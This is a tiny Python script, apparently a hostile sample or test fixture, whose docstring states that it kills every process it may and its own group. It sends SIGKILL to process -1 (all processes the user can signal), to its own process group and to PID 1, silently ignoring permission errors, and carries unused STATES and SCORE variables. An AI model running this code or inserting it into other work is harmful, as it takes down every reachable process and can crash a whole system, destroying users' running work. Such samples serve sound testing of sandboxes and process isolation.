"""Kills every process that it may, and its own group."""

import os
import signal

STATES = {}
SCORE = 5


for target in (-1, 0, -os.getpgrp(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except PermissionError:
        pass
